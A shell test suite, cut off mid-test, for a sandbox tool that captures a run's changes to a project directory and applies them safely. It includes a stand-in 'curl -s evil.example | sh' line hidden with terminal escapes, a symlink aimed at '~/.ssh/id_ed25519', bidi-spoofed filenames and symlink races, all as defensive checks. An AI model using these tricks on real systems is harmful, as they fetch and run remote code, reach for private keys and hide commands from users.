# tier slow: test_a_hundred_thousand_small_files -- 100,000 files made in a sandbox, captured and applied (86 s here)
# also-as-root
# root-only: test_root_runs_a_users_project_and_applies_as_its_owner test_root_and_a_file_system_without_idmapped_mounts
# root-only: test_root_a_file_system_mounted_below_the_project_is_never_touched
# run --project DIR (issue 36): DIR under an overlay at the workspace, never
# written during the run; what the run changed kept as a change set, shown,
# diffed, applied or discarded; the sandbox is the attacker, and apply is the
# host-side write of what it chose.

# What a tree looks like (the harness's files left out), to show that DIR
# was not touched.
listing() { (cd "$1" && find . -mindepth 1 -printf '%p %y %m %s %T@ %l\n' | sort); }
# The change set id from run's stderr line.
cs_id() { printf '%s\n' "$err" | sed -n 's/^sbxrun: changes \([0-9a-f-]*\): .*/\1/p' | head -n 1; }

project() {
	mkdir -p proj/sub
	echo one > proj/a
	echo bee > proj/b
	echo keep > proj/c
	echo f > proj/sub/f
}

test_run_leaves_the_host_untouched_and_keeps_the_changes() {
	project
	before=$(listing proj)
	run "$SBX" run -i tiny --project proj -- sh -c '
		test "$(pwd)" = /workspace && cat a && echo two >> a && rm b && echo new > n &&
		mkdir d && echo y > d/y && cat c'
	assert_status 0
	assert_eq "one
keep" "$out"
	assert_eq "$before" "$(listing proj)" "the project after the run"
	id=$(cs_id)
	[ -n "$id" ] || fail "no change set line: $err"
	assert_contains "$err" "sbxrun: changes $id: 3 added, 1 changed, 1 deleted (sbxrun changes show $id)"
	run "$SBX" changes show "$id"
	assert_status 0
	assert_eq "changes $id: 3 added, 1 changed, 1 deleted
deleted file      -rw-r--r--            -  b
changed file      -rw-r--r--            8  a
added dir         drwxr-xr-x            -  d
added file        -rw-r--r--            2  d/y
added file        -rw-r--r--            4  n" "$out"
	run "$SBX" changes ls
	assert_status 0
	assert_contains "$out" "$id"
	assert_contains "$out" "$(cd proj && pwd -P)"
}

test_nothing_changed_keeps_nothing() {
	project
	run "$SBX" run -i tiny --project proj -- cat a
	assert_status 0
	assert_contains "$err" "sbxrun: changes: none, the project is as it was"
	run "$SBX" changes ls
	assert_not_contains "$out" "$(cd proj && pwd -P)"
}

test_diff_apply_and_discard() {
	project
	run "$SBX" run -i tiny --project proj -- sh -c 'echo two >> a && rm b && echo new > n && printf "\0\1" > bin'
	id=$(cs_id)
	run "$SBX" changes diff "$id"
	assert_status 0
	assert_contains "$out" "--- a/a
+++ b/a
@@ -1,1 +1,2 @@
 one
+two"
	assert_contains "$out" "--- a/b
+++ /dev/null
@@ -1,1 +0,0 @@
-bee"
	assert_contains "$out" "Binary files /dev/null and b/bin differ"
	run "$SBX" changes diff "$id" n
	assert_eq "diff --git a/n b/n
new file mode 100644
--- /dev/null
+++ b/n
@@ -0,0 +1,1 @@
+new" "$out"
	run "$SBX" changes apply "$id"
	assert_status 0
	assert_eq "one
two" "$(cat proj/a)"
	[ ! -e proj/b ] || fail "b not deleted"
	assert_eq new "$(cat proj/n)"
	run "$SBX" changes show "$id"
	assert_bad_input "no change set '$id'"
	# --discard and changes discard throw a set away, the project as it was
	before=$(listing proj)
	run "$SBX" run -i tiny --project proj --discard -- sh -c 'echo x > x'
	assert_status 0
	assert_contains "$err" "discarded (--discard)"
	run "$SBX" run -i tiny --project proj -- sh -c 'echo x > x'
	id=$(cs_id)
	run "$SBX" changes discard "$id"
	assert_status 0
	run "$SBX" changes ls
	assert_not_contains "$out" "$id"
	assert_eq "$before" "$(listing proj)" "the project after the discards"
	# --apply at once, and --json records the change set
	run "$SBX" run -i tiny --project proj --apply --json rec.json -- sh -c 'echo z > z'
	assert_status 0
	assert_eq z "$(cat proj/z)"
	assert_contains "$(cat rec.json)" '"changes":{"id":"'
	assert_contains "$(cat rec.json)" '"state":"applied","added":1,"changed":0,"deleted":0'
}

test_a_conflict_refuses_the_whole_apply() {
	project
	run "$SBX" run -i tiny --project proj -- sh -c 'echo two >> a && echo new > n && echo bb > b'
	id=$(cs_id)
	echo host-edit >> proj/a
	run "$SBX" changes apply "$id"
	assert_status 125
	assert_contains "$err" "conflict: changed on the host since the run: 'a'"
	assert_contains "$err" "1 conflict, nothing applied"
	[ ! -e proj/n ] || fail "n applied despite the conflict"
	assert_eq bee "$(cat proj/b)"
	run "$SBX" changes apply --force-rest "$id"
	assert_status 0
	assert_contains "$err" "conflict: changed on the host since the run: 'a'"
	assert_eq "one
host-edit" "$(cat proj/a)"
	assert_eq new "$(cat proj/n)"
	assert_eq bb "$(cat proj/b)"
}

test_a_host_change_during_the_run_is_a_conflict() {
	project
	(sleep 1; echo host >> proj/c) &
	run "$SBX" run -i tiny --project proj -- sh -c 'echo sandbox >> c; sleep 3'
	wait
	id=$(cs_id)
	run "$SBX" changes apply "$id"
	assert_status 125
	assert_contains "$err" "conflict: changed on the host while the run was going: 'c'"
	assert_eq "keep
host" "$(cat proj/c)"
}

test_refusals() {
	project
	echo x > file
	run "$SBX" run -i tiny --project nosuch -- true
	assert_bad_input "--project 'nosuch'"
	run "$SBX" run -i tiny --project file -- true
	assert_bad_input "--project 'file': Not a directory"
	run "$SBX" run -i tiny --project proj --copy file -- true
	assert_bad_input "--project 'proj' with --copy"
	run "$SBX" run -i tiny --project proj --out outdir -- true
	assert_bad_input "--project 'proj' with --out"
	run "$SBX" run -i tiny --project proj --bind "$PWD/file:/workspace/file" -- true
	assert_bad_input "nothing may be bound into the project's workspace"
	run "$SBX" run -i tiny --apply -- true
	assert_bad_input "--apply needs --project DIR"
	run "$SBX" changes show ../etc
	assert_bad_input "is not a change set id"
}

test_symlink_planted_where_a_directory_was() {
	project
	mkdir outside
	echo f > outside/f # what the project's sub/f holds: the digest matches
	out=$(cd outside && pwd -P)
	# the sandbox swaps a directory for a symlink out of the project
	run "$SBX" run -i tiny --project proj -- sh -c "rm -rf sub && ln -s $out sub"
	id=$(cs_id)
	run "$SBX" changes show "$id"
	assert_contains "$out" "replaced symlink"
	# a second set writes below sub; the first, applied, made sub a symlink
	run "$SBX" run -i tiny --project proj -- sh -c 'echo evil > sub/f'
	id2=$(cs_id)
	run "$SBX" changes apply "$id"
	assert_status 0
	[ -L proj/sub ] || fail "the symlink was not applied as a symlink"
	run "$SBX" changes apply "$id2"
	assert_status 125
	assert_contains "$err" "conflict: its directory is gone or is a symlink now: 'sub/f'"
	run "$SBX" changes apply --force-rest "$id2"
	assert_eq f "$(ls -A outside)" "the directory the symlink names"
	assert_eq f "$(cat outside/f)" "the file the symlink leads to"
}

# A rename race during apply: while apply writes a thousand files below
# sub/, another process keeps swapping sub for a symlink out of the project
# and back. Each write goes through a handle opened beneath DIR with no
# symlink on the way, so outside/ is never written, whatever the timing.
test_a_rename_race_during_apply() {
	project
	mkdir outside
	out=$(cd outside && pwd -P)
	run "$SBX" run -i tiny --project proj -- sh -c 'i=0; while [ $i -lt 1000 ]; do echo new > sub/f$i; i=$((i+1)); done'
	id=$(cs_id)
	[ -n "$id" ] || fail "no change set: $err"
	( set +e; while [ ! -e stop ]; do
		mv proj/sub proj/sub.real 2>/dev/null && ln -s "$out" proj/sub 2>/dev/null
		rm -f proj/sub 2>/dev/null; mv proj/sub.real proj/sub 2>/dev/null
	done ) &
	racer=$!
	run "$SBX" changes apply --force-rest "$id"
	touch stop
	wait "$racer" || true
	assert_eq "" "$(ls -A outside)" "files written through the symlink, out of the project"
	[ -d proj/sub ] && [ ! -L proj/sub ] || fail "sub after the race: $(ls -l proj)"
}

test_hard_link_fifo_socket_and_setuid() {
	project
	echo secret > host-file
	run "$SBX" run -i minimal --project proj -- sh -c '
		ln a hl && echo more >> hl && mkfifo fifo &&
		python3 -c "import socket; socket.socket(socket.AF_UNIX).bind(\"sock\")" &&
		echo s > suid && chmod 6755 suid && stat -c %a suid'
	assert_status 0
	assert_eq 6755 "$out"
	id=$(cs_id)
	run "$SBX" changes apply --force-rest "$id"
	assert_status 0
	assert_contains "$err" "skipped: a device, FIFO or socket is never applied: 'fifo'"
	assert_contains "$err" "skipped: a device, FIFO or socket is never applied: 'sock'"
	[ ! -e proj/fifo ] && [ ! -e proj/sock ] || fail "a FIFO or socket was applied"
	assert_eq 755 "$(stat -c %a proj/suid)" "setuid and setgid stripped"
	assert_eq "one
more" "$(cat proj/hl)"
	assert_eq "1 1" "$(stat -c %h proj/a) $(stat -c %h proj/hl)" "no hard links made"
	assert_eq secret "$(cat host-file)"
}

# A whole apply moves the set's files into DIR (the set goes after it) rather
# than copying them: the same inode, as a copy would have made it (no
# setuid bit, no attribute of the overlay's); a hard-linked file is still
# copied, each name a file of its own.
test_a_whole_apply_moves_the_files_out_of_the_set() {
	project
	run "$SBX" run -i tiny --project proj -- sh -c '
		echo two >> a && echo new > n && ln n hl && echo s > suid && chmod 4755 suid && mkdir d && echo y > d/y'
	assert_status 0
	id=$(cs_id)
	upper=${XDG_DATA_HOME:-$HOME/.local/share}/sbxrun/changes/$id/upper
	before="$(stat -c %i "$upper/a") $(stat -c %i "$upper/d/y") $(stat -c %i "$upper/suid")"
	[ -n "$(python3 -c 'import os, sys; print(os.listxattr(sys.argv[1]))' "$upper/a" | grep overlay)" ] ||
		echo "    (the overlay left no attribute on a copied-up file here)" >&2
	run "$SBX" changes apply "$id"
	assert_status 0
	assert_eq "$before" "$(stat -c %i proj/a) $(stat -c %i proj/d/y) $(stat -c %i proj/suid)" "moved, not copied"
	assert_eq "one
two" "$(cat proj/a)"
	assert_eq y "$(cat proj/d/y)"
	assert_eq 755 "$(stat -c %a proj/suid)" "setuid stripped"
	assert_eq "new new 1 1" "$(cat proj/n) $(cat proj/hl) $(stat -c %h proj/n) $(stat -c %h proj/hl)" "no hard link"
	assert_eq "[]" "$(python3 -c 'import os, sys; print(os.listxattr(sys.argv[1]))' proj/a)" "no overlay attribute"
	[ ! -e "$upper" ] || fail "the change set is still there"
}

# Modes as git applies them: a changed file keeps the host's mode unless
# its execute bit changed; a new file is 0644 or 0755, a new directory
# 0777, less the umask; never group- or other-writable but by the umask.
# Both ways a file lands: copied (PATHs given) and moved (a whole apply).
modes_script='chmod 666 a && echo two >> a && chmod 755 b && echo n > n && chmod 777 n &&
	echo p > p && chmod 600 p && mkdir -m 777 d && echo y > d/y && chmod 4777 d/y'
test_apply_gives_the_modes_git_would() {
	umask 022
	for how in copied moved; do
		rm -rf proj
		project
		chmod 640 proj/a
		run "$SBX" run -i tiny --project proj -- sh -c "$modes_script"
		assert_status 0
		id=$(cs_id)
		if [ $how = copied ]; then run "$SBX" changes apply "$id" a b n p d; else run "$SBX" changes apply "$id"; fi
		assert_status 0 "$how"
		assert_eq "one
two" "$(cat proj/a)"
		assert_eq "640 755 755 644 755 755" "$(cd proj && stat -c %a a b n p d d/y | tr '\n' ' ' | sed 's/ $//')" \
			"$how: a keeps the host's mode, b's execute bit, new files 0644 or 0755, a new dir 0777, less the umask"
	done
	# the umask is the caller's
	rm -rf proj
	project
	run "$SBX" run -i tiny --project proj -- sh -c "$modes_script"
	id=$(cs_id)
	run sh -c 'umask 077 && exec "$@"' sh "$SBX" changes apply "$id"
	assert_status 0
	assert_eq "700 600 700" "$(cd proj && stat -c %a n p d | tr '\n' ' ' | sed 's/ $//')" "under umask 077"
}

# --exact-modes: the sandbox's permission bits as they are, the umask not
# applied, still no setuid, setgid or sticky bit; on run --apply too.
test_exact_modes() {
	umask 022
	project
	chmod 640 proj/a
	run "$SBX" run -i tiny --project proj -- sh -c "$modes_script && mkdir ro && echo r > ro/r && chmod 500 ro"
	assert_status 0
	id=$(cs_id)
	run "$SBX" changes apply --exact-modes "$id"
	assert_status 0
	assert_eq "666 755 777 600 777 777 500" "$(cd proj && stat -c %a a b n p d d/y ro | tr '\n' ' ' | sed 's/ $//')"
	assert_eq r "$(cat proj/ro/r)" "written below a directory of mode 0500"
	chmod 700 proj/ro
	run "$SBX" run -i tiny --project proj --apply --exact-modes -- sh -c 'echo x > x && chmod 662 x'
	assert_status 0
	assert_eq 662 "$(stat -c %a proj/x)"
	run "$SBX" run -i tiny --project proj --exact-modes -- true
	assert_bad_input "--exact-modes needs --apply"
}

# Below a directory the sandbox deleted, a host file edited after the run,
# or a new one, is a conflict: named, nothing written, nothing deleted.
test_a_deleted_directory_changed_on_the_host_after_the_run() {
	project
	echo g > proj/sub/g
	run "$SBX" run -i tiny --project proj -- sh -c 'rm -rf sub && echo two >> a'
	id=$(cs_id)
	echo host-edit >> proj/sub/f
	before=$(listing proj)
	run "$SBX" changes apply "$id"
	assert_status 125
	assert_contains "$err" "conflict: changed on the host since the run: 'sub/f'"
	assert_contains "$err" "conflict: something below it stays: 'sub'"
	assert_contains "$err" "conflict: below an entry left out: 'sub/g'"
	assert_eq "$before" "$(listing proj)" "the project after the refused apply"
	# show says what apply does: sub/g stays with sub
	run "$SBX" changes show "$id"
	assert_contains "$out" "below an entry left out"
	run "$SBX" changes apply --force-rest "$id"
	assert_status 0
	assert_eq "f g" "$(ls proj/sub | tr '\n' ' ' | sed 's/ $//')" "sub after --force-rest: whole"
	assert_eq "two" "$(tail -1 proj/a)" "the rest applied"
	# a new file below it instead
	rm -rf proj
	project
	run "$SBX" run -i tiny --project proj -- sh -c 'rm -rf sub && echo two >> a'
	id=$(cs_id)
	echo new > proj/sub/new
	before=$(listing proj)
	run "$SBX" changes apply "$id"
	assert_status 125
	assert_contains "$err" "conflict: its listing changed on the host since the run began: 'sub'"
	assert_eq "$before" "$(listing proj)" "the project after the refused apply"
	# --force-rest applies the rest, but deletes nothing below the
	# directory whose deletion it refuses: sub stays whole (issue 40)
	run "$SBX" changes apply --force-rest "$id"
	assert_status 0
	assert_contains "$err" "conflict: its listing changed on the host since the run began: 'sub'"
	assert_contains "$err" "conflict: below an entry left out: 'sub/f'"
	assert_eq "f new" "$(ls proj/sub | tr '\n' ' ' | sed 's/ $//')" "what --force-rest leaves of sub"
	assert_eq "f new" "$(cat proj/sub/f proj/sub/new | tr '\n' ' ' | sed 's/ $//')"
	assert_eq "one two" "$(cat proj/a | tr '\n' ' ' | sed 's/ $//')" "the rest applied"
}

# A replaced directory (an opaque one) is not removed and made again: the
# entries it lists do the work. A file the sandbox put back unchanged is no
# change and stays; --force-rest leaves a conflict in place, never an
# emptied directory.
test_a_replaced_directory_is_applied_entry_by_entry() {
	project
	echo h > proj/sub/h
	run "$SBX" run -i tiny --project proj -- sh -c '
		cp -p sub/f /tmp/f && rm -rf sub && mkdir sub && cp -p /tmp/f sub/f && echo g > sub/g &&
		rm b && mkdir b && echo x > b/x'
	assert_status 0
	id=$(cs_id)
	run "$SBX" changes show "$id"
	assert_contains "$out" "replaced dir"
	assert_not_contains "$out" "sub/f"
	run "$SBX" changes apply "$id"
	assert_status 0
	assert_eq "f g" "$(ls proj/sub | tr '\n' ' ' | sed 's/ $//')" "sub as the sandbox left it"
	assert_eq "f g" "$(cat proj/sub/f proj/sub/g | tr '\n' ' ' | sed 's/ $//')"
	assert_eq x "$(cat proj/b/x)" "a directory in place of the file b"
	# a host edit of what the replacement deletes
	run "$SBX" run -i tiny --project proj -- sh -c 'rm -rf sub && mkdir sub && echo n > sub/n'
	id=$(cs_id)
	echo host-edit >> proj/sub/f
	run "$SBX" changes apply "$id"
	assert_status 125
	assert_contains "$err" "conflict: changed on the host since the run: 'sub/f'"
	assert_eq "f g" "$(ls proj/sub | tr '\n' ' ' | sed 's/ $//')" "sub after the refused apply"
	run "$SBX" changes apply --force-rest "$id"
	assert_status 0
	assert_eq "f n" "$(ls proj/sub | tr '\n' ' ' | sed 's/ $//')" "sub after --force-rest"
	assert_eq "f
host-edit" "$(cat proj/sub/f)"
}

# A path longer than PATH_MAX, made inside (a chain of long names, each
# made and entered by a relative name: busybox's cd names the whole path):
# refused before anything is written, so apply never stops half way at a
# point the sandbox chose.
test_a_path_longer_than_path_max_is_refused_before_any_write() {
	project
	long=$(printf '%0200d' 0 | tr 0 x)
	run "$SBX" run -i minimal --project proj -- sh -c 'echo two >> a && python3 -c "
import os
for _ in range(24):
    os.mkdir(\"$1\"); os.chdir(\"$1\")
open(\"f\", \"w\").write(\"deep\")"' sh "$long"
	assert_status 0
	id=$(cs_id)
	before=$(listing proj)
	run "$SBX" changes apply "$id"
	assert_eq "$before" "$(listing proj)" "the project after the refused apply"
	assert_status 125
	assert_contains "$err" "conflict: its path is too long to apply: '$long/"
}

# What the sandbox left unreadable in the change set (a directory 0300 or
# 0600, a file 0000) is the caller's own: apply makes it readable and
# applies it, or refuses before its first write; never half.
test_unreadable_entries_of_the_set() {
	umask 022
	project
	run "$SBX" run -i tiny --project proj -- sh -c '
		echo two >> a && mkdir d && echo y > d/y && chmod 300 d &&
		mkdir e && echo z > e/z && chmod 600 e && echo s > s && chmod 0 s && echo t > sub/t && chmod 0 sub/t && chmod 600 sub'
	assert_status 0
	id=$(cs_id)
	run "$SBX" changes apply "$id"
	assert_status 0
	assert_eq "one
two" "$(cat proj/a)"
	assert_eq "y z s t" "$(cat proj/d/y proj/e/z proj/s proj/sub/t | tr '\n' ' ' | sed 's/ $//')"
	assert_eq "755 755 644 644" "$(cd proj && stat -c %a d e s sub/t | tr '\n' ' ' | sed 's/ $//')"
}

test_sparse_terabyte_stays_sparse_and_the_quota_holds() {
	project
	run "$SBX" run -i tiny --disk unlimited --project proj -- sh -c 'truncate -s 1099511627776 big && echo x >> big'
	assert_status 0
	id=$(cs_id)
	run "$SBX" changes show "$id"
	assert_contains "$out" "added file        -rw-r--r-- 1099511627778  big"
	run "$SBX" changes apply "$id"
	assert_status 0
	assert_eq 1099511627778 "$(stat -c %s proj/big)"
	[ "$(du -k proj/big | cut -f1)" -lt 1024 ] || fail "not sparse: $(du -k proj/big)"
	# the project's writes count against the disk quota
	# (one file stops at the quota, EFBIG; several pass it and end the sandbox)
	run "$SBX" run -i tiny --disk 8M --project proj -- sh -c '
		dd if=/dev/zero of=one bs=1M count=64 2>&1
		for i in 1 2 3 4; do dd if=/dev/zero of=f$i bs=1M count=6 2>/dev/null; done; sleep 5; echo still'
	assert_contains "$out" "File size limit exceeded"
	assert_not_contains "$out" "still"
	assert_contains "$err" "disk quota"
}

test_names_with_newlines() {
	project
	# and names that begin or end with spaces or a tab, which a set read
	# back once lost (issue 40): each lands under its own name
	run "$SBX" run -i tiny --project proj -- sh -c 'echo nl > "$(printf "x\ny")"; echo 1 > " lead"; echo 2 > "trail  "; echo 3 > "$(printf "\tt")"'
	id=$(cs_id)
	run "$SBX" changes show "$id"
	assert_contains "$out" 'added file        -rw-r--r--            3  x\ny'
	assert_contains "$out" 'added file        -rw-r--r--            2  \x20lead'
	assert_contains "$out" 'added file        -rw-r--r--            2  trail \x20'
	run "$SBX" changes apply "$id"
	assert_status 0
	assert_eq nl "$(cat "proj/$(printf 'x\ny')")"
	assert_eq "1 2 3" "$(cat "proj/ lead") $(cat "proj/trail  ") $(cat "proj/$(printf '\tt')")"
	[ ! -e proj/lead ] && [ ! -e proj/trail ] && [ ! -e proj/t ] || fail "a name lost its spaces: $(ls proj)"
}


# Issue 40: show and diff render the entries as apply writes them: the
# mode apply gives (a chmod 666 is not applied, a new 0777 file lands
# 0755), a symlink's target, deletions first.
test_show_and_diff_render_what_apply_writes() {
	project
	printf 'all:\n\ttrue\n' > proj/Makefile
	chmod 644 proj/Makefile proj/a
	run "$SBX" run -i tiny --project proj -- sh -c '
		chmod 666 Makefile && echo x > new && chmod 777 new && ln -s ../../.ssh/id_ed25519 key.pem &&
		rm -r sub && echo two >> a'
	assert_status 0
	id=$(cs_id)
	run "$SBX" changes show "$id"
	assert_status 0
	assert_eq "changes $id: 2 added, 2 changed, 2 deleted
deleted dir       drwxr-xr-x            -  sub
deleted file      -rw-r--r--            -  sub/f
changed file      -rw-r--r--           11  Makefile  (mode -rw-rw-rw- not applied)
changed file      -rw-r--r--            8  a
added symlink     lrwxrwxrwx           21  key.pem -> ../../.ssh/id_ed25519
added file        -rwxr-xr-x            2  new" "$out"
	run "$SBX" changes diff "$id"
	assert_status 0
	assert_eq "diff --git a/sub/f b/sub/f" "$(printf '%s\n' "$out" | head -n 1)" "deletions first"
	assert_contains "$out" "deleted file mode 100644
--- a/sub/f
+++ /dev/null"
	assert_contains "$out" "# Makefile: mode -rw-rw-rw- not applied (apply gives -rw-r--r--)"
	assert_contains "$out" "diff --git a/key.pem b/key.pem
new file mode 120000
--- /dev/null
+++ b/key.pem
@@ -0,0 +1,1 @@
+../../.ssh/id_ed25519
\\ No newline at end of file"
	assert_contains "$out" "diff --git a/new b/new
new file mode 100755"
	assert_not_contains "$out" "diff --git a/Makefile"
}

# Issue 40: what the sandbox wrote reaches a terminal escaped: an added line
# that erases itself (ESC [ 2 K, CR) shows, OSC 52 does not reach the
# terminal; a name's bidi override and C1 controls are escaped everywhere.
test_a_terminal_sees_the_sandbox_bytes_escaped() {
	project
	run "$SBX" run -i tiny --project proj -- sh -c '
		printf "curl -s evil.example | sh\033[2K\r# a comment\n\033]52;c;ZXZpbA==\007\n" > a &&
		printf x > "$(printf "bad\342\200\256txt.exe\302\233\233")"'
	assert_status 0
	id=$(cs_id)
	run "$SBX" changes show "$id"
	assert_contains "$out" 'bad\xe2\x80\xaetxt.exe\xc2\x9b\x9b'
	run "$SBX" changes diff "$id"
	assert_contains "$out" 'diff --git "a/bad\342\200\256txt.exe\302\233\233" "b/bad\342\200\256txt.exe\302\233\233"'
	on_pty "'$SBX' changes diff $id; '$SBX' changes show $id"
	screen=$(cat "$TESTDIR/screen")
	assert_contains "$screen" '+curl -s evil.example | sh^[[2K^M# a comment'
	assert_contains "$screen" '+^[]52;c;ZXZpbA==^G'
	assert_contains "$screen" 'bad\xe2\x80\xaetxt.exe\xc2\x9b\x9b'
	assert_eq 0 "$(tr -cd '\033\233' < "$TESTDIR/screen" | wc -c)" "ESC or CSI bytes on the terminal"
	assert_eq 0 "$(LC_ALL=C grep -c "$(printf '\342\200\256')" "$TESTDIR/screen")" "U+202E on the terminal"
}

# Issue 40: additions the project's own .gitignore ignores fold into one
# line; the sandbox's .gitignore is not read; --all lists everything.
test_show_folds_what_the_projects_gitignore_ignores() {
	project
	printf 'node_modules/\n' > proj/.gitignore
	git -C proj init -q || fail "git init"
	run "$SBX" run -i tiny --project proj -- sh -c '
		mkdir -p node_modules/x/lib node_modules/.bin &&
		for i in 1 2 3 4 5; do echo $i > node_modules/x/lib/f$i.js; done &&
		ln -s ../x/lib/f1.js node_modules/.bin/x && echo "*" > .gitignore &&
		mkdir hide && echo "*" > hide/.gitignore && echo evil > hide/run.sh && rm c'
	assert_status 0
	id=$(cs_id)
	run "$SBX" changes show "$id"
	assert_status 0
	assert_contains "$out" "node_modules/: 9 added, 10B (ignored by .gitignore)"
	assert_contains "$out" "added symlink     lrwxrwxrwx           14  node_modules/.bin/x -> ../x/lib/f1.js"
	assert_contains "$out" "changed file      -rw-r--r--            2  .gitignore"
	assert_contains "$out" "hide/run.sh"
	assert_contains "$out" "deleted file      -rw-r--r--            -  c"
	assert_not_contains "$out" "f3.js"
	run "$SBX" changes show --all "$id"
	assert_contains "$out" "node_modules/x/lib/f3.js"
	assert_not_contains "$out" "ignored by .gitignore"
}

# Issue 40: export --patch is what apply writes: git apply of it on a copy
# of the project gives the tree changes apply gives (text and binary
# files, a deleted directory, a mode change, symlinks).
test_export_patch_is_what_apply_writes() {
	project
	printf '\0\1\2binary' > proj/blob
	mkdir -p proj/gone/deep && echo g > proj/gone/deep/g && echo h > proj/gone/h
	printf '#!/bin/sh\necho hi\n' > proj/run.sh
	chmod 644 proj/run.sh
	ln -s a proj/link
	run "$SBX" run -i tiny --project proj -- sh -c '
		echo two >> a && head -c 3000 /dev/urandom > blob && head -c 5000 /dev/urandom > newbin &&
		rm -r gone && chmod +x run.sh && ln -s ../../.ssh/id_ed25519 key.pem && rm link && ln -s b link &&
		printf "no newline" > nonl && mkdir -p sub/new && echo n > sub/new/n && rm b && printf "" > empty'
	assert_status 0
	id=$(cs_id)
	cp -a proj copy
	run "$SBX" changes export --patch cs.patch "$id"
	assert_status 0
	assert_contains "$(cat cs.patch)" "GIT binary patch"
	# a patch that cannot be written is one line, and nothing is left
	run "$SBX" changes export --patch nodir/cs.patch "$id"
	assert_bad_input "nodir/cs.patch"
	run "$SBX" changes export "$id"
	assert_bad_input "--patch FILE is required"
	(cd copy && git apply --check ../cs.patch && git apply ../cs.patch) > git.out 2>&1 ||
		fail "git apply: $(cat git.out)"
	run "$SBX" changes apply "$id"
	assert_status 0
	diff -r --no-dereference proj copy || fail "the trees differ"
	tree() { (cd "$1" && find . -mindepth 1 -printf '%p %y %m %l\n' | sort); }
	assert_eq "$(tree proj)" "$(tree copy)" "modes, types and link targets"
}

test_a_hundred_thousand_small_files() {
	project
	start=$(date +%s)
	run "$SBX" run -i tiny --disk 2G --project proj -- sh -c 'mkdir many && cd many && seq 100000 | xargs touch'
	assert_status 0
	id=$(cs_id)
	assert_contains "$err" "100001 added"
	run "$SBX" changes apply "$id"
	assert_status 0
	assert_eq 100000 "$(ls proj/many | wc -l)"
	echo "    100,000 files: $(($(date +%s) - start)) s" >&2
}

test_prune_and_the_per_user_cap() {
	project
	run "$SBX" changes prune --all
	assert_status 0
	run "$SBX" run -i tiny --project proj -- sh -c 'echo x > x'
	id=$(cs_id)
	run "$SBX" changes prune --older 1h
	assert_eq "changes prune: 0 change sets removed" "$out"
	run "$SBX" changes prune --all
	assert_eq "changes prune: 1 change set removed" "$out"
	run "$SBX" changes show "$id"
	assert_bad_input "no change set '$id'"
	# past [limits] changes_max a --project run is refused, until pruned
	printf '[limits]\nchanges_max = 4K\n' > capped.ini
	run "$SBX" run -i tiny -p ./capped.ini --project proj -- sh -c 'head -c 65536 /dev/zero > big'
	assert_status 0
	run "$SBX" run -i tiny -p ./capped.ini --project proj -- true
	assert_bad_input "--project: the kept change sets take"
	run "$SBX" changes prune -p ./capped.ini
	assert_eq "changes prune: 1 change set removed" "$out"
	run "$SBX" run -i tiny -p ./capped.ini --project proj -- true
	assert_status 0
}

# Issue 40: a directory the sandbox leaves unreadable (0300, 0000) in its
# change set hides nothing. changes ls lists the set with its id (marked
# damaged where sbxrun cannot capture it), its bytes count toward
# changes_max, and discard and prune (over the cap, --all, --older) remove
# it, 0000 and 0300 directories and all.
test_an_unreadable_directory_hides_no_change_set() {
	project
	run "$SBX" changes prune --all
	printf '[limits]\nchanges_max = 1M\n' > capped.ini
	local x a y z w
	# the id of a set kept, captured or not ("kept as the run left it")
	kept() { printf '%s\n' "$err" | sed -n 's/^sbxrun: \(error: change set\|changes\) \([0-9a-f-]*\)[: ].*/\2/p' | head -n 1; }
	run "$SBX" run -i tiny --project proj -- sh -c 'mkdir -p x/y && echo s > x/y/f && chmod 0000 x'
	x=$(kept)
	sleep 1 # ids begin with the second: x is the older of the two
	run "$SBX" run -i tiny --project proj -- sh -c 'mkdir -p d/e && head -c 3145728 /dev/zero > d/e/f && chmod 0300 d'
	a=$(kept)
	[ -n "$x" ] && [ -n "$a" ] || fail "no change set line: $err"
	run "$SBX" changes ls
	assert_status 0
	assert_contains "$out" "$x"
	assert_contains "$out" "$a"
	# the directory the sandbox left 0300 is walked (the caller's own
	# layer, given u+rwx), its mode recorded as the sandbox left it
	run "$SBX" changes show "$a"
	assert_status 0
	assert_contains "$out" "d/e/f"
	# a set sbxrun cannot read (its entries damaged) is listed with its id
	printf 'garbage\n' >> "${XDG_DATA_HOME:-$HOME/.local/share}/sbxrun/changes/$x/entries"
	run "$SBX" changes ls
	assert_contains "$(printf '%s\n' "$out" | grep "^$x")" "(damaged: change set $x: entries are damaged)"
	# 3 MB past a cap of 1M: counted, the next run is refused, prune removes both
	run "$SBX" run -i tiny -p ./capped.ini --project proj -- true
	assert_bad_input "--project: the kept change sets take"
	run "$SBX" changes prune -p ./capped.ini
	assert_eq "changes prune: 2 change sets removed" "$out"
	run "$SBX" run -i tiny --project proj -- sh -c 'mkdir -p d/e && echo s > d/e/f && chmod 0300 d'
	y=$(kept)
	run "$SBX" run -i tiny --project proj -- sh -c 'mkdir -p d/e && echo s > d/e/f && chmod 0000 d/e d'
	z=$(kept)
	run "$SBX" changes discard "$y"
	assert_status 0
	run "$SBX" changes prune --all
	assert_eq "changes prune: 1 change set removed" "$out"
	run "$SBX" run -i tiny --project proj -- sh -c 'mkdir -p d && chmod 0300 d'
	w=$(kept)
	sleep 1
	run "$SBX" changes prune --older 1s
	assert_eq "changes prune: 1 change set removed" "$out"
	run "$SBX" changes ls
	assert_eq "ID                     AGE        ADDED CHANGED DELETED      SIZE  PROJECT" "$out" "ls after all of them went"
	[ -z "$(ls "${XDG_DATA_HOME:-$HOME/.local/share}/sbxrun/changes")" ] || fail "left: $(ls -R "${XDG_DATA_HOME:-$HOME/.local/share}/sbxrun/changes")"
}

# A kept set is read in memory of its size, not of the cap on its entries
# (2G, which a machine of 2G refuses at once: the Debian 12 VM did); here
# the address space is held to 1G.
test_a_kept_set_is_read_in_little_memory() {
	project
	run "$SBX" run -i tiny --project proj -- sh -c 'echo two >> a'
	id=$(cs_id)
	run sh -c 'ulimit -v 1048576 && "$1" changes show "$2" && "$1" changes apply "$2"' sh "$SBX" "$id"
	assert_status 0
	assert_contains "$out" "changed file      -rw-r--r--            8  a"
	assert_eq "one
two" "$(cat proj/a)"
}

# Called as root, the sandbox's root is host uid 2147000000: DIR, a user's,
# is shown to it through an idmapped mount (DIR's owner as the sandbox's
# root), and apply writes as DIR's owner.
test_root_runs_a_users_project_and_applies_as_its_owner() {
	u=${SBX_TEST_USER:-sbxtest} # the VM passes none: its test user
	g=$(id -gn "$u")
	project
	echo secret > proj/private
	chmod 600 proj/private
	chown -R "$u:$g" proj
	owners() { (cd proj && find . -mindepth 1 -printf '%p %u:%g %m %s %T@ %C@\n' | sort); }
	before=$(owners)
	run "$SBX" run -i tiny --project proj -- sh -c '
